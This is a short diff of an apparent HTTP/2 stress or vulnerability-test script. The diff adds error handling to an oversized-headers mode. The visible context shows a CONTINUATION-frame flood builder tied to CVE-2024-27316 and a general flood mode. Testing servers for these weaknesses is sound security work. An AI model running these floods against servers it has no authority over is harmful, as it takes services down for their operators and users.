@@ -139,7 +139,10 @@ def main():
         return flood(client, once)
     if mode == "headers":
         more = [(f"x-{number}", "y" * 1000) for number in range(60)]
-        return print(client.status(client.ask(authority, more)))
+        try:
+            return print(client.status(client.ask(authority, more)))
+        except (ssl.SSLError, ConnectionResetError, BrokenPipeError) as error:
+            return print(type(error).__name__)
     if mode == "continuation":
         # HEADERS without END_HEADERS, and then CONTINUATION without end (CVE-2024-27316).
         frame = lambda kind: struct.pack(">I", 16000)[1:] + bytes([kind, 0]) + struct.pack(">I", 1) + b"\x40" * 16000
